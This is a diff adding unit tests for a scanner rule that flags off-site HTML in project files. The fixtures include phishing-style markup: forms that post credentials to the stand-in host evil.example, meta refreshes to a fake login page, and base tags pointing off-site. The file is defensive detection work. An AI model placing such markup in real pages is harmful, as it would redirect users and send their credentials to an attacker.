@@ -129,3 +129,45 @@ describe('html/active-content and svg/active-content', () => {
     expect(scanText('assets/page.html', '<html><body><a href="docs/caf&#xe9;.html" title="Tom &amp; Jerry">x</a></body></html>').findings).toEqual([]);
   });
 });
+
+describe('html/off-site', () => {
+  const page = (body: string) => `<!DOCTYPE html>\n<html><head><title>t</title></head>\n<body>\n${body}\n</body></html>\n`;
+  const found = (path: string, text: string) => scanText(path, text).findings.map((f) => [f.rule, f.severity, f.line]);
+
+  it('finds a refresh to a URL, a <base> on another site, a form that submits elsewhere, and any password field', () => {
+    const offSite = [
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/login">',
+      "<meta content='0; URL=//evil.example/' http-equiv='Refresh'>",
+      '<meta http-equiv="&#114;efresh" content="1;url=https://evil.example/">',
+      '<base href="https://evil.example/">',
+      '<form action="https://evil.example/collect" method="post"><input name="user"></form>',
+      '<form method=post action=//evil.example/collect><button>Go</button></form>',
+      '<form><input type="password" name="pw"></form>',
+      '<form action="/signin"><input name="pw" type=PASSWORD></form>',
+    ];
+    for (const markup of offSite) {
+      for (const path of ['assets/page.html', 'templates/page.xhtml']) expect(found(path, page(markup)), `${path}: ${markup}`).toEqual([['html/off-site', 'critical', 4]]);
+    }
+  });
+
+  it('leaves a refresh in place, links, same-site forms without a password, and the same markup in Markdown or code alone', () => {
+    const inert = [
+      '<meta http-equiv="refresh" content="30">',
+      '<meta name="viewport" content="width=device-width, url=https://x.example/">',
+      '<base href="/docs/"><a href="https://example.org/">a link elsewhere</a>',
+      '<form action="/search"><input type="search" name="q"></form>',
+      '<form><input type="text" name="password-hint"></form>',
+    ];
+    for (const markup of inert) expect(found('assets/page.html', page(markup)), markup).toEqual([]);
+    const phishing = '<form action="https://evil.example/collect"><input type="password"></form>';
+    expect(found('references/forms.md', `# Forms\n\n${phishing}\n`)).toEqual([]);
+    expect(found('scripts/render.py', `PAGE = '${phishing}'\n`)).toEqual([]);
+  });
+
+  it('reads a tag that never closes in linear time', () => {
+    const started = performance.now();
+    scanText('assets/page.html', `<form action=${'x'.repeat(500_000)}`);
+    scanText('assets/page.html', '<meta http-equiv=refresh '.repeat(20_000));
+    expect(performance.now() - started).toBeLessThan(2000);
+  });
+});
